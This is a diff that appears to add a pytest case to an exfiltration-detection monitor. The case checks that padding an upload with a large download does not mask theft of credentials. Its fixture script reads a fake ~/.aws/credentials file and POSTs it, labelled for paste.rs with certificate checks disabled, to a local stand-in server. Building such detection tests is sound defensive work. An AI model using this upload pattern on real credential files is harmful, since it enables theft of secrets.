@@ -171,3 +171,49 @@ def test_trickle_over_child_processes_adds_up(parts_sent, expect, monitor, stand
         assert any("connections" in s.get("evidence", "") for s in volume), volume
     else:
         assert_silent(mine)
+
+
+POST_THEN_DOWNLOAD = """import socket, ssl, sys
+data = open(sys.argv[1], "rb").read() if sys.argv[1] != "-" else b""
+if len(sys.argv) > 3:
+    open(sys.argv[3], "rb").read()  # read, not sent
+c = ssl._create_unverified_context()
+s = c.wrap_socket(socket.create_connection(("127.0.0.1", int(sys.argv[2]))), server_hostname="paste.rs")
+out = b""
+if data:
+    out += b"POST / HTTP/1.1\\r\\nHost: paste.rs\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data) + data
+out += b"GET /?size=2000000 HTTP/1.1\\r\\nHost: paste.rs\\r\\nConnection: close\\r\\n\\r\\n"
+s.sendall(out)
+while s.recv(65536):
+    pass
+"""
+
+
+@pytest.mark.parametrize("post, expect", [(True, "alert"), (False, "silent")])
+def test_download_padding_does_not_cancel_an_upload(post, expect, monitor, standin, fake_home, tmp_path):
+    """A script posts ~/.aws/credentials and downloads 2 MB on the same connection: receiving a
+    lot does not offset what was sent (T1567.003). Its twin reads the file and only downloads."""
+    from harness.config import HTTPS_PORT
+    script = tmp_path / "pad.py"
+    script.write_text(POST_THEN_DOWNLOAD)
+    credentials = fake_home.path / ".aws" / "credentials"
+    # The twin reads the credentials itself too (same process), then only downloads.
+    cmd = (f"python3 {script} {credentials} {HTTPS_PORT}" if post
+           else f"python3 {script} - {HTTPS_PORT} {credentials}")
+    result = subprocess.run(["bash", "-c", cmd], env=fake_home.env(), capture_output=True, text=True, timeout=60)
+    assert result.returncode == 0, result.stderr
+    def big_flow(r):
+        return (get(r, "event.action") == "flow-summary" and get(r, "destination.domain") == "paste.rs"
+                and (get(r, "destination.bytes") or 0) >= 2_000_000)
+    monitor.wait_for(big_flow, 20, "the 2 MB download's flow")
+    if expect == "alert":
+        monitor.poll_for(lambda r: is_alert(r) and get(r, "destination.domain") == "paste.rs", 20)
+    monitor.stop()
+    mine = [r for r in monitor.records() if get(r, "destination.domain") == "paste.rs"
+            and str(get(r, "process.name", "")).startswith("python")]
+    if expect == "alert":
+        found = assert_alert(mine, "T1567.003")
+        names = {s.get("name") for a in found for s in (get(a, "exfilwatch.signals") or [])}
+        assert "data-volume" in names and "download-shaped" not in names, names
+    else:
+        assert_silent(mine)
